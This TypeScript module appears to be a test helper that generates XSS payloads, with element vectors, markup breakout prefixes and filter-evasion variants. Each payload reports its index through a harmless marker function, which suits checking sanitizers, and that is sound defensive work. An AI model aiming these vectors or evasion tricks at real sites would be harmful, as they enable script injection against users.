/** XSS payloads, each of which reports its number when it runs. */

const callFor = (index: number) => `window.ran('${index}')`;

/** Elements that try to run code automatically or on mouse events. */
export const ELEMENTS: readonly ((run: string) => string)[] = [
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<script>${run}</script>`,
  (run) => `<svg onload="${run}"></svg>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  (run) => `<body onload="${run}">`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<details open ontoggle="${run}">x</details>`,
  (run) => `<video><source onerror="${run}"></video>`,
  (run) => `<audio src=x onerror="${run}"></audio>`,
  (run) => `<input autofocus onfocus="${run}">`,
  (run) => `<a href="javascript:${run}" onmouseover="${run}">x</a>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<math><mtext></mtext><mglyph><style><img src=x onerror="${run}"></style></mglyph></math>`,
  (run) => `<form><button formaction="javascript:${run}" onmouseover="${run}">x</button></form>`,
  (run) => `<marquee onstart="${run}">x</marquee>`,
  (run) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${run}">x</b>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  (run) => `<template><img src=x onerror="${run}"></template>`,
  (run) => `<link rel=stylesheet href=x onerror="${run}">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<base href="javascript:/*"><a href="*/${run}//">x</a>`,
  (run) => `<b onpointerenter="${run}" onmouseover="${run}">x</b>`,
];
/** Prefixes that break out of the surrounding markup; the first is empty. */
export const BREAKOUTS: readonly string[] = [
  ...['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '</style>', '"/></p>'],
];
/** Variants of the HTML: unchanged, disguised from a filter for keywords, in Markdown, or after an escaped tag. */
const VARIANTS: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => html.replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
  (html) => html.replace(/javascript:/g, 'java\tscript:').replace(/ on/g, '\u000con'),
  (html) => html.replace(/javascript:/g, '&#106;avascript:').replace(/<(\w+) /g, '<$1/'),
  (html) => html.replace(/javascript:/g, ' jAvAsCrIpT&colon;'),
  (html) => `\`\`\`\n${html}\n\`\`\`\n${html}`,
  (html) => `> - ${html}`,
  (html) => `[${html}](javascript:${html.length} "${html}")`,
  (html) => `&lt;b&gt;${html}`,
];

/** Returns the first `count` payloads. The very first is an image without a breakout or disguise. */
export const createPayloads = (count: number): string[] =>
  Array.from({ length: count }, (_, index) => {
    const position = index % ELEMENTS.length;
    const round = Math.floor(index / ELEMENTS.length);
    const element = ELEMENTS[position]!(callFor(index));
    return BREAKOUTS[(position + round) % BREAKOUTS.length]! + VARIANTS[round % VARIANTS.length]!(element);
  });
